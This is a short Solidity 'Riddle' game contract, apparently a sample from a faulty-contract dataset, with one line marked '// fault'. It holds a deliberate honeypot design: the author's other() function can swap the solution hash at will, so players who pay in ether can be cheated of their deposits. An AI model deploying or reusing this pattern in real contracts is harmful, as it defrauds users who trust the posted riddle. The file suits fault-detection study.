pragma solidity ^0.4.20;

contract Riddle {
    string public riddle;
    bytes32 solution;
    address author;

    function open(string text, string answer) public payable {
        if (solution == 0x0) {
            solution = keccak256(answer);
            riddle = text;
            author = msg.sender;
        }
    }

    function solve(string answer) external payable {
        require(msg.sender == tx.origin);
        if (solution == keccak256(answer) && msg.value > 2 ether) { // fault
            msg.sender.transfer(this.balance);
        }
    }

    function other(bytes32 hash) public payable {
        require(msg.sender == author);
        solution = hash;
    }
}
